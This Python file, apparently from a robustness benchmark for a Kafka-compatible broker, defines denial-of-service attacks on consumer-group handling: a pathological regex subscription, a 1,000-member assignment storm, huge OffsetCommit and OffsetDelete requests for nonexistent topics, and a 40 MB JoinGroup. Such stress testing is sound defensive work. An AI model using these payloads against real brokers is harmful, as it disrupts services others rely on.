"""What members and commits of groups can ask for: slow expressions, large assignments, offsets that are all refused."""

from __future__ import annotations

import random
from contextlib import ExitStack

from bench.attacks.attack import MB, Attack, Frames, Outcome, Victim
from bench.attacks.long_frames import repeated
from bench.groups import TOPIC, wait_for_coordinator
from bench.wire import Wire, create_topic
from ottla.protocol.generated.consumer_group_heartbeat import ConsumerGroupHeartbeatRequest
from ottla.protocol.generated.create_topics import CreatableTopic, CreateTopicsRequest
from ottla.protocol.generated.join_group import JoinGroupRequest, JoinGroupRequestProtocol
from ottla.protocol.generated.offset_commit import (
    OffsetCommitRequest,
    OffsetCommitRequestPartition,
    OffsetCommitRequestTopic,
)
from ottla.protocol.generated.offset_delete import (
    OffsetDeleteRequest,
    OffsetDeleteRequestPartition,
    OffsetDeleteRequestTopic,
)
from ottla.protocol.header import RequestHeader, encode_request

OFFSET_COMMIT, JOIN_GROUP, CREATE_TOPICS, OFFSET_DELETE, CONSUMER_GROUP_HEARTBEAT = 8, 11, 19, 47, 68
GROUP = "g"
TOPICS = 600
NAME_LENGTH = 249
#: RE2 promises linear time: for each character it goes through all states that it may be in, and here these are all.
EXPRESSION = "(a?.?){1000}(a?.?){1000}(a?.?){1000}x"
COMMITS = 200_000
DELETIONS = 500_000
JOIN_MB = 40
MEMBERS = 1_000
ASSIGNED_TOPICS = 100
PARTITIONS_EACH = 100
#: A connection's requests are served one after the other, so its members join one after the other.
CONNECTIONS = 50
#: After all have joined: some change what they want, and each of these is a new assignment.
CHANGES = 20


def prepare_group(port: int) -> None:
    create_topic(port, TOPIC)
    wait_for_coordinator(port, GROUP)


class SlowExpression(Attack):
    name = "expression"
    sends = f"an RE2 expression of {len(EXPRESSION)} bytes over {TOPICS} topics with names of {NAME_LENGTH} characters"

    def prepare(self, victim: Victim) -> None:
        prepare_group(victim.port)
        rng = random.Random(1)
        names = ["".join(rng.choices("ab", k=NAME_LENGTH)) for _ in range(TOPICS)]
        topics = [CreatableTopic(name=name, num_partitions=1, replication_factor=1) for name in names]
        with Wire(victim.port) as wire:
            wire.call(CREATE_TOPICS, 7, CreateTopicsRequest(topics=topics, timeout_ms=60_000))

    def run(self, victim: Victim) -> Outcome:
        message = ConsumerGroupHeartbeatRequest(
            group_id="matching",
            member_id="m",
            member_epoch=0,
            rebalance_timeout_ms=60_000,
            subscribed_topic_regex=EXPRESSION,
            topic_partitions=[],
        )
        header = RequestHeader(api_key=CONSUMER_GROUP_HEARTBEAT, api_version=1, correlation_id=1, client_id="attack")
        frame = encode_request(header, message)
        with victim.connect() as attacker:
            return Outcome(sent=len(frame), answers=[attacker.ask(frame)])


class Assignment(Attack):
    name = "assignment"
    sends = (
        f"a group of {MEMBERS:,} members that share {ASSIGNED_TOPICS * PARTITIONS_EACH:,} partitions: all join, "
        f"then {CHANGES} change what they want, one after the other"
    )

    def prepare(self, victim: Victim) -> None:
        prepare_group(victim.port)
        topics = [
            CreatableTopic(name=name, num_partitions=PARTITIONS_EACH, replication_factor=1) for name in _assigned()
        ]
        with Wire(victim.port) as wire:
            wire.call(CREATE_TOPICS, 7, CreateTopicsRequest(topics=topics, timeout_ms=120_000))

    def run(self, victim: Victim) -> Outcome:
        outcome = Outcome()
        joins = [_join(number, _assigned()) for number in range(MEMBERS)]
        # Each change makes the last one's computation stale, and needs another one.
        changes = [_join(number, _assigned()[number + 1 :]) for number in range(CHANGES)]
        with ExitStack() as opened:
            attackers = [opened.enter_context(victim.connect()) for _ in range(CONNECTIONS)]
            shares = [joins[place::CONNECTIONS] for place in range(CONNECTIONS)]
            for attacker, frames in zip(attackers, shares, strict=True):
                attacker.send(b"".join(frames))
            for attacker, frames in zip(attackers, shares, strict=True):
                outcome.answers += [attacker.answer_to(frame) for frame in frames]
            outcome.answers += [attackers[0].ask(frame) for frame in changes]
        outcome.sent = sum(map(len, joins)) + sum(map(len, changes))
        return outcome


def _assigned() -> list[str]:
    return [f"assigned-{number:03}" for number in range(ASSIGNED_TOPICS)]


def _join(number: int, topics: list[str]) -> bytes:
    message = ConsumerGroupHeartbeatRequest(
        group_id="assigned",
        member_id=f"member-{number:04}",
        member_epoch=0,
        rebalance_timeout_ms=60_000,
        subscribed_topic_names=topics,
        topic_partitions=[],
    )
    header = RequestHeader(api_key=CONSUMER_GROUP_HEARTBEAT, api_version=1, correlation_id=1, client_id="attack")
    return encode_request(header, message)


def refused_partitions() -> bytes:
    """Of one topic that there is not."""

    def message(partitions: list[OffsetCommitRequestPartition]) -> OffsetCommitRequest:
        topic = OffsetCommitRequestTopic(name="no-such", partitions=partitions)
        return OffsetCommitRequest(group_id=GROUP, topics=[topic])

    def elements(first: int, how_many: int) -> list[OffsetCommitRequestPartition]:
        return [
            OffsetCommitRequestPartition(partition_index=number, committed_offset=1, committed_metadata="")
            for number in range(first, first + how_many)
        ]

    return repeated(OFFSET_COMMIT, 8, message, elements, count_max=COMMITS)


def refused_topics() -> bytes:
    """As many topics, none of which there is."""
    partitions = [OffsetCommitRequestPartition(partition_index=0, committed_offset=1, committed_metadata="")]

    def elements(first: int, how_many: int) -> list[OffsetCommitRequestTopic]:
        return [
            OffsetCommitRequestTopic(name=f"no-such-{number:06}", partitions=partitions)
            for number in range(first, first + how_many)
        ]

    def message(topics: list[OffsetCommitRequestTopic]) -> OffsetCommitRequest:
        return OffsetCommitRequest(group_id=GROUP, topics=topics)

    return repeated(OFFSET_COMMIT, 8, message, elements, count_max=COMMITS)


def deleted_partitions() -> bytes:
    """Of one topic that there is not."""
    return repeated(
        OFFSET_DELETE,
        0,
        lambda partitions: OffsetDeleteRequest(
            group_id=GROUP, topics=[OffsetDeleteRequestTopic(name="no-such", partitions=partitions)]
        ),
        lambda first, how_many: [
            OffsetDeleteRequestPartition(partition_index=number) for number in range(first, first + how_many)
        ],
        count_max=DELETIONS,
    )


def long_join() -> bytes:
    """One protocol with as much metadata as that."""
    message = JoinGroupRequest(
        group_id=GROUP,
        session_timeout_ms=10_000,
        rebalance_timeout_ms=10_000,
        protocol_type="consumer",
        protocols=[JoinGroupRequestProtocol(name="range", metadata=bytes(JOIN_MB * MB))],
    )
    return encode_request(
        RequestHeader(api_key=JOIN_GROUP, api_version=9, correlation_id=1, client_id="attack"), message
    )


def attacks() -> list[Attack]:
    return [
        SlowExpression(),
        Assignment(),
        Frames(
            "commit-partitions",
            f"OffsetCommit of {COMMITS:,} partitions of a topic that there is not",
            lambda: [refused_partitions()],
            before=prepare_group,
        ),
        Frames(
            "commit-topics",
            f"OffsetCommit of {COMMITS:,} topics that there are not",
            lambda: [refused_topics()],
            before=prepare_group,
        ),
        Frames(
            "delete-offsets",
            f"OffsetDelete of {DELETIONS:,} partitions of a topic that there is not",
            lambda: [deleted_partitions()],
            before=prepare_group,
        ),
        Frames("join", f"JoinGroup with {JOIN_MB} MB of metadata", lambda: [long_join()], before=prepare_group),
    ]
